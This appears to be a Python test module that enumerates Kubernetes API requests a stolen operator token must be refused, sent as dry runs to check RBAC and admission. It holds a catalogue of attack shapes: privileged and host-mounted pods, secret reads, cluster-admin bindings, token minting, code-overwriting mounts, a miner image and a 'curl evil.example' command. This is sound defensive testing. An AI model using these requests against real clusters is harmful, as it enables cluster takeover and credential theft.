"""What a stolen token could be used for: requests that are to be refused, and those it is for."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from hack.testbed.namespace import BATCH, CORE, SCHEDULES, Body
from tests.attacks.arena import ATTACKERS, OUTSIDE
from tests.attacks.vectors import Vector, Who
from tests.support.chart import RELEASE

APPLY = "application/apply-patch+yaml"
MERGE = "application/merge-patch+json"
LABELS = {
    "app.kubernetes.io/managed-by": "report-scheduler",
    "reports.adaf.io/schedule-uid": "11111111-2222-3333-4444-555555555555",
    "reports.adaf.io/schedule": "x",
    "reports.adaf.io/tier": "standard",
}
GROUPS = {"ReportSchedule": "reports.adaf.io/v1alpha1", "CronJob": "batch/v1"}


@dataclass(frozen=True, slots=True)
class Request:
    """A call of the API server; writes are dry runs, which RBAC and admission judge alike."""

    method: str
    path: str
    body: Any = None
    kind: str = "application/json"

    @property
    def url(self) -> str:
        if self.method == "GET":
            return self.path
        return f"{self.path}{'&' if '?' in self.path else '?'}dryRun=All"


def _owner(kind: str) -> Body:
    return {
        "apiVersion": GROUPS[kind],
        "kind": kind,
        "name": "x",
        "uid": LABELS["reports.adaf.io/schedule-uid"],
        "controller": True,
        "blockOwnerDeletion": False,
    }


NOT_OF_POD = ("container", "labels", "annotations")


def pod_spec(image: str, changes: Body) -> Body:
    """As the operator makes it, with the changes given; those of `container` go into it."""
    container = {
        "name": "report",
        "image": image,
        "command": ["report-generator", "run"],
        "env": [{"name": "REPORT_DEFINITION_SHA256", "value": "0" * 64}],
        "securityContext": {
            "allowPrivilegeEscalation": False,
            "readOnlyRootFilesystem": True,
            "capabilities": {"drop": ["ALL"]},
        },
        "volumeMounts": [
            {"name": "definition", "mountPath": "/etc/report/definition", "readOnly": True},
            {"name": "tmp", "mountPath": "/tmp"},
        ],
    }
    pod = {
        "restartPolicy": "Never",
        "automountServiceAccountToken": False,
        "enableServiceLinks": False,
        "securityContext": {
            "runAsNonRoot": True,
            "runAsUser": 65532,
            "runAsGroup": 65532,
            "fsGroup": 65532,
            "seccompProfile": {"type": "RuntimeDefault"},
        },
        "volumes": [
            {"name": "definition", "configMap": {"name": "x-0123456789"}},
            {"name": "tmp", "emptyDir": {}},
        ],
    }
    of_pod = {name: value for name, value in changes.items() if name not in NOT_OF_POD}
    return {
        **_merged(pod, of_pod),
        "containers": [_merged(container, changes.get("container", {}))],
    }


def _merged(base: Body, changes: Body) -> Body:
    """Objects go into one another and lists grow: what is not changed remains as it is allowed."""
    found = dict(base)
    for name, value in changes.items():
        was = base.get(name)
        if isinstance(was, dict) and isinstance(value, dict):
            found[name] = _merged(was, value)
        elif isinstance(was, list) and isinstance(value, list) and name != "command":
            found[name] = [*was, *value]
        else:
            found[name] = value
    return found


def job(image: str, changes: Body | None = None) -> Body:
    changes = changes or {}
    meta = {"name": "stolen", "labels": LABELS, "ownerReferences": [_owner("CronJob")]}
    template = {
        "metadata": {
            "labels": {**LABELS, **changes.get("labels", {})},
            "annotations": changes.get("annotations", {}),
        },
        "spec": pod_spec(image, changes),
    }
    return {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": meta,
        "spec": {"suspend": True, "template": template},
    }


def cronjob(image: str, changes: Body | None = None) -> Body:
    made = job(image, changes)
    return {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {**made["metadata"], "ownerReferences": [_owner("ReportSchedule")]},
        "spec": {
            "schedule": "0 0 1 1 *",
            "jobTemplate": {"metadata": {"labels": LABELS}, "spec": made["spec"]},
        },
    }


# What a pod must not be, whoever makes it in the operator's name.
SHAPES: Mapping[str, Body] = {
    "other-image": {"container": {"image": "evil.example/miner:latest"}},
    "host-network": {"hostNetwork": True},
    "host-pid": {"hostPID": True},
    "host-ipc": {"hostIPC": True},
    "host-port": {"container": {"ports": [{"containerPort": 80, "hostPort": 80}]}},
    "host-path": {"volumes": [{"name": "v", "hostPath": {"path": "/"}}]},
    # Without the second word the API server itself refuses it.
    "privileged": {
        "container": {"securityContext": {"privileged": True, "allowPrivilegeEscalation": True}}
    },
    "escalation": {"container": {"securityContext": {"allowPrivilegeEscalation": True}}},
    "capability": {"container": {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}},
    "root": {"securityContext": {"runAsUser": 0, "runAsNonRoot": False}},
    "root-container": {"container": {"securityContext": {"runAsUser": 0}}},
    "unconfined": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}},
    "sysctl": {"securityContext": {"sysctls": [{"name": "kernel.shm_rmid_forced", "value": "1"}]}},
    "service-account": {"serviceAccountName": "cluster-admin"},
    "own-service-account": {"serviceAccountName": "report-scheduler-adaf-report-scheduler"},
    "service-account-token": {"automountServiceAccountToken": True},
    "projected-token": {
        "volumes": [
            {
                "name": "t",
                "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]},
            }
        ]
    },
    "other-secret": {"volumes": [{"name": "s", "secret": {"secretName": "database-root"}}]},
    "projected-secret": {
        "volumes": [
            {"name": "s", "projected": {"sources": [{"secret": {"name": "database-root"}}]}}
        ]
    },
    "secret-environment": {
        "container": {
            "env": [
                {
                    "name": "A",
                    "valueFrom": {"secretKeyRef": {"name": "database-root", "key": "password"}},
                }
            ]
        }
    },
    "secret-environment-all": {
        "container": {"envFrom": [{"secretRef": {"name": "database-root"}}]}
    },
    "secret-csi": {
        "volumes": [
            {
                "name": "c",
                "csi": {"driver": "x.csi", "nodePublishSecretRef": {"name": "database-root"}},
            }
        ]
    },
    "other-claim": {
        "volumes": [{"name": "c", "persistentVolumeClaim": {"claimName": "data-postgres-0"}}]
    },
    "nfs": {"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]},
    "other-command": {"container": {"command": ["sh", "-c", "curl evil.example"]}},
    "arguments": {"container": {"args": ["--root=/"]}},
    "init-container": {
        "initContainers": [{"name": "i", "image": "evil.example/miner", "command": ["sh"]}]
    },
    "sidecar": {
        "initContainers": [{"name": "i", "image": "evil.example/miner", "restartPolicy": "Always"}]
    },
    "lifecycle": {
        "container": {"lifecycle": {"preStop": {"exec": {"command": ["sh", "-c", "id"]}}}}
    },
    "probe": {"container": {"livenessProbe": {"exec": {"command": ["sh", "-c", "id"]}}}},
    "path-environment": {"container": {"env": [{"name": "PYTHONSTARTUP", "value": "/tmp/x.py"}]}},
    "pull-secret": {"imagePullSecrets": [{"name": "database-root"}]},
    "node-name": {"nodeName": "control-plane"},
    "priority": {"priorityClassName": "system-node-critical"},
    "runtime-class": {"runtimeClassName": "kata"},
    "host-users": {"hostUsers": True, "hostNetwork": True},
    "scheduler": {"schedulerName": "mine"},
    "anti-affinity": {
        "affinity": {
            "podAntiAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": [
                    {"topologyKey": "kubernetes.io/hostname", "namespaceSelector": {}}
                ]
            }
        }
    },
    "resolver": {"dnsPolicy": "None", "dnsConfig": {"nameservers": ["203.0.113.1"]}},
    "host-alias": {"hostAliases": [{"ip": "203.0.113.1", "hostnames": ["database"]}]},
    "name-in-dns": {"hostname": "database", "subdomain": "databases"},
    "labels-of-a-service": {"labels": {"app": "shop"}},
    "network-by-annotation": {"annotations": {"k8s.v1.cni.cncf.io/networks": "kube-system/x"}},
    "apparmor-by-annotation": {
        "annotations": {"container.apparmor.security.beta.kubernetes.io/report": "unconfined"}
    },
    "secret-elsewhere": {"container": {"env": [{"name": "REPORT_SECRETS_DIR", "value": "/tmp"}]}},
    "definition-over-code": {
        "container": {
            "volumeMounts": [
                {
                    "name": "definition",
                    "mountPath": "/usr/lib/python3.11/sitecustomize.py",
                    "subPath": "definition.json",
                }
            ]
        }
    },
    "secret-over-code": {
        "container": {"volumeMounts": [{"name": "secret-0", "mountPath": "/usr/lib/python3.11"}]},
        "volumes": [{"name": "secret-0", "secret": {"secretName": "report-x"}}],
    },
    "definition-as-code": {
        "container": {"volumeMounts": [{"name": "code", "mountPath": "/etc/report/secrets/x"}]},
        "volumes": [
            {
                "name": "code",
                "configMap": {
                    "name": "x-0123456789",
                    "items": [{"key": "definition.json", "path": "x.py"}],
                },
            }
        ],
    },
    "log-over-code": {"container": {"terminationMessagePath": "/usr/bin/report-generator"}},
}

_BARE_MAP = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "stolen"}}


def _core(namespace: str, *rest: str) -> str:
    return "/".join([CORE, "namespaces", namespace, *rest])


def _batch(namespace: str, *rest: str) -> str:
    return "/".join([BATCH, "namespaces", namespace, *rest])


def _reports(namespace: str, *rest: str) -> str:
    return "/".join([SCHEDULES, "namespaces", namespace, *rest])


def requests(image: str) -> dict[str, Request]:
    """Everything that the operator's token is not for, by name. Objects named exist."""
    rbac = "/apis/rbac.authorization.k8s.io/v1"
    binding = {
        "metadata": {"name": "stolen"},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [{"kind": "User", "name": "me", "apiGroup": "rbac.authorization.k8s.io"}],
    }
    foreign_map = {**_BARE_MAP, "metadata": {"name": "stolen", "labels": {"app": "other"}}}
    lease = "/apis/coordination.k8s.io/v1"
    policies = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies"
    found = {
        "secrets-of-the-cluster": Request("GET", f"{CORE}/secrets"),
        "secrets-of-a-team": Request("GET", _core(ATTACKERS, "secrets")),
        "secret-of-a-team": Request("GET", _core(ATTACKERS, "secrets", "report-db")),
        "secrets-of-kube-system": Request("GET", _core("kube-system", "secrets")),
        "secret-create": Request(
            "POST", _core(ATTACKERS, "secrets"), {"metadata": {"name": "stolen"}}
        ),
        "secrets-of-the-release": Request("GET", _core(RELEASE, "secrets")),
        "token-of-another": Request(
            "POST",
            _core("kube-system", "serviceaccounts", "default", "token"),
            {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}},
        ),
        "token-of-a-team": Request(
            "POST",
            _core(ATTACKERS, "serviceaccounts", "default", "token"),
            {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}},
        ),
        "bind-cluster-admin": Request("POST", f"{rbac}/clusterrolebindings", binding),
        "bind-in-a-team": Request("POST", f"{rbac}/namespaces/{ATTACKERS}/rolebindings", binding),
        "role-read": Request("GET", f"{rbac}/clusterroles"),
        "impersonate": Request(
            "POST",
            "/apis/authorization.k8s.io/v1/subjectaccessreviews",
            {"kind": "SubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {}},
        ),
        "policy-delete": Request("DELETE", f"{policies}/any"),
        "policy-list": Request("GET", policies),
        "crd-delete": Request(
            "DELETE",
            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/reportschedules.reports.adaf.io",
        ),
        "nodes": Request("GET", f"{CORE}/nodes"),
        "node-proxy": Request("GET", f"{CORE}/nodes/any/proxy/pods"),
        "namespaces": Request("GET", f"{CORE}/namespaces"),
        "namespace-delete": Request("DELETE", f"{CORE}/namespaces/{ATTACKERS}"),
        "namespace-label": Request(
            "PATCH",
            f"{CORE}/namespaces/{ATTACKERS}",
            {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
            MERGE,
        ),
        "pod-create": Request(
            "POST",
            _core(ATTACKERS, "pods"),
            {"metadata": {"name": "stolen"}, "spec": pod_spec(image, {})},
        ),
        "pod-exec": Request("POST", _core(ATTACKERS, "pods", "x", "exec?command=id")),
        "pod-attach": Request("POST", _core(ATTACKERS, "pods", "x", "attach")),
        "pod-portforward": Request("POST", _core(ATTACKERS, "pods", "x", "portforward")),
        "pod-ephemeral": Request(
            "PATCH",
            _core(ATTACKERS, "pods", "x", "ephemeralcontainers"),
            {"spec": {"ephemeralContainers": [{"name": "e", "image": "evil.example/x"}]}},
            MERGE,
        ),
        "pod-delete": Request("DELETE", _core(ATTACKERS, "pods", "x")),
        "pod-evict": Request("POST", _core(ATTACKERS, "pods", "x", "eviction"), {}),
        "deployment-create": Request(
            "POST",
            f"/apis/apps/v1/namespaces/{ATTACKERS}/deployments",
            {"metadata": {"name": "stolen"}, "spec": {}},
        ),
        "own-deployment": Request(
            "PATCH",
            f"/apis/apps/v1/namespaces/{RELEASE}/deployments/any",
            {"spec": {"replicas": 0}},
            MERGE,
        ),
        "network-policy-delete": Request(
            "DELETE",
            f"/apis/networking.k8s.io/v1/namespaces/{ATTACKERS}/networkpolicies/any",
        ),
        "lease-of-another": Request(
            "PATCH",
            f"{lease}/namespaces/kube-system/leases/kube-controller-manager",
            {"spec": {"holderIdentity": "me"}},
            MERGE,
        ),
        "schedule-create": Request(
            "POST", _reports(ATTACKERS, "reportschedules"), {"metadata": {"name": "stolen"}}
        ),
        "schedule-change": Request(
            "PATCH",
            _reports(ATTACKERS, "reportschedules", "x"),
            {"spec": {"suspend": True}},
            MERGE,
        ),
        "schedule-delete": Request("DELETE", _reports(ATTACKERS, "reportschedules", "x")),
        # -- outside of the teams' namespaces
        "jobs-everywhere": Request("GET", f"{BATCH}/jobs"),
        "cronjobs-everywhere": Request("GET", f"{BATCH}/cronjobs"),
        "pods-everywhere": Request("GET", f"{CORE}/pods"),
        "configmaps-everywhere": Request("GET", f"{CORE}/configmaps"),
        "events-everywhere": Request("GET", f"{CORE}/events"),
        "job-in-kube-system": Request("POST", _batch("kube-system", "jobs"), job(image)),
        "job-outside": Request("POST", _batch(OUTSIDE, "jobs"), job(image)),
        "job-in-the-release": Request("POST", _batch(RELEASE, "jobs"), job(image)),
        "cronjob-in-kube-system": Request(
            "POST", _batch("kube-system", "cronjobs"), cronjob(image)
        ),
        "cronjob-outside": Request("POST", _batch(OUTSIDE, "cronjobs"), cronjob(image)),
        "configmap-of-kube-system": Request(
            "GET", _core("kube-system", "configmaps", "kube-root-ca.crt")
        ),
        "configmap-outside": Request("GET", _core(OUTSIDE, "configmaps", "settings")),
        "configmap-create-outside": Request("POST", _core(OUTSIDE, "configmaps"), foreign_map),
        "configmap-delete-outside": Request("DELETE", _core(OUTSIDE, "configmaps", "settings")),
        "configmap-delete-in-kube-system": Request(
            "DELETE", _core("kube-system", "configmaps", "kube-root-ca.crt")
        ),
        "configmaps-delete-of-the-release": Request(
            "DELETE", _core(RELEASE, "configmaps", "report-scheduler-adaf-report-scheduler")
        ),
        "logs-in-kube-system": Request("GET", _core("kube-system", "pods", "x", "log")),
        "logs-outside": Request("GET", _core(OUTSIDE, "pods", "x", "log")),
        "job-delete-outside": Request("DELETE", _batch(OUTSIDE, "jobs", "other")),
        "job-patch-outside": Request(
            "PATCH", _batch(OUTSIDE, "jobs", "other"), {"spec": {"suspend": True}}, MERGE
        ),
        # -- things of a team that are none of the operator's
        "configmap-of-a-team-delete": Request("DELETE", _core(ATTACKERS, "configmaps", "settings")),
        "configmap-of-a-team-change": Request(
            "PATCH", _core(ATTACKERS, "configmaps", "settings"), {"data": {"a": "b"}}, MERGE
        ),
        "configmap-without-labels": Request(
            "POST", _core(ATTACKERS, "configmaps"), {**_BARE_MAP, "metadata": {"name": "stolen"}}
        ),
        "configmap-foreign-labels": Request("POST", _core(ATTACKERS, "configmaps"), foreign_map),
        "cronjob-of-a-team-change": Request(
            "PATCH", _batch(ATTACKERS, "cronjobs", "other"), {"spec": {"suspend": True}}, MERGE
        ),
        "cronjob-of-a-team-adopt": Request(
            "PATCH",
            f"{_batch(ATTACKERS, 'cronjobs', 'other')}?fieldManager=me&force=true",
            {**cronjob(image), "metadata": {**cronjob(image)["metadata"], "name": "other"}},
            APPLY,
        ),
        "cronjob-of-a-team-delete": Request("DELETE", _batch(ATTACKERS, "cronjobs", "other")),
        "cronjob-without-labels": Request(
            "POST",
            _batch(ATTACKERS, "cronjobs"),
            {**cronjob(image), "metadata": {"name": "stolen"}},
        ),
        "job-of-a-team-delete": Request("DELETE", _batch(ATTACKERS, "jobs", "other")),
        "job-of-a-team-change": Request(
            "PATCH", _batch(ATTACKERS, "jobs", "other"), {"spec": {"suspend": True}}, MERGE
        ),
        "job-without-labels": Request(
            "POST",
            _batch(ATTACKERS, "jobs"),
            {**job(image), "metadata": {"name": "stolen"}},
        ),
    }
    for name, change in SHAPES.items():
        found[f"job-{name}"] = Request("POST", _batch(ATTACKERS, "jobs"), job(image, change))
        found[f"cronjob-{name}"] = Request(
            "POST", _batch(ATTACKERS, "cronjobs"), cronjob(image, change)
        )
    return found


def permitted(image: str) -> Request:
    """A run that both accounts may make: each shape differs from it in one thing."""
    return Request("POST", _batch(ATTACKERS, "jobs"), job(image))


def permitted_cronjob(image: str) -> Request:
    """For the operator's account alone."""
    return Request("POST", _batch(ATTACKERS, "cronjobs"), cronjob(image))


def vectors(area: str, who: Who, image: str) -> list[Vector]:
    """One for each request."""
    return [Vector(area, name, who, request) for name, request in requests(image).items()]
